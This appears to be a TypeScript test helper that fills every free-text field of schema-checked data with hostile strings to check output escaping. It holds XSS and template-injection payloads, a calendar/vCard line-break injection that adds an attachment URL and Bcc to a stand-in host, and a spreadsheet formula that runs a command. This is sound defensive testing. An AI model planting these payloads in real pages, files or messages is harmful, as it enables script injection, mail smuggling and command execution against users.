/** Content that means harm, for tests: its texts try to break out of whatever they are written into. */
import type { z } from 'zod';
import { leaves, schemaAt, type Path } from './reflect.ts';

/** Breaks out of an attribute, a script, a comment, CDATA, a template, a line. */
export const HOSTILE = [
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(2)",
  '</script><script>alert(3)</script><!--',
  ']]>{{7*7}}${alert(4)}',
  '](javascript:alert(5)) `x` | &lt;b',
  '\u2028a\r\nATTACH:https://evil.be/\r\nEND:VEVENT\r\nEND:VCARD\r\nBcc: a@evil.be',
].join(' ');

/** What a spreadsheet would run. */
const FORMULA = "=cmd|' /C calc'!A0";

function replaceAt(value: unknown, [step, ...rest]: Path, text: string): unknown {
  if (step === undefined) return text;
  if (Array.isArray(value)) return value.map((item, index) => (index === step ? replaceAt(item, rest, text) : item));
  const record = value as Record<string, unknown>;
  return { ...record, [step]: replaceAt(record[step], rest, text) };
}

/** The same entry with harm in each field that takes any words; addresses, days, choices and references stay. */
export function hostile<Data>(schema: z.ZodType, data: Data, words = `${FORMULA} ${HOSTILE}`): Data {
  const free = [...leaves(schema, data)].filter(({ path }) => schemaAt(schema, path)?.safeParse('<b>').success);
  return free.reduce<unknown>((changed, { path }) => replaceAt(changed, path, words), data) as Data;
}
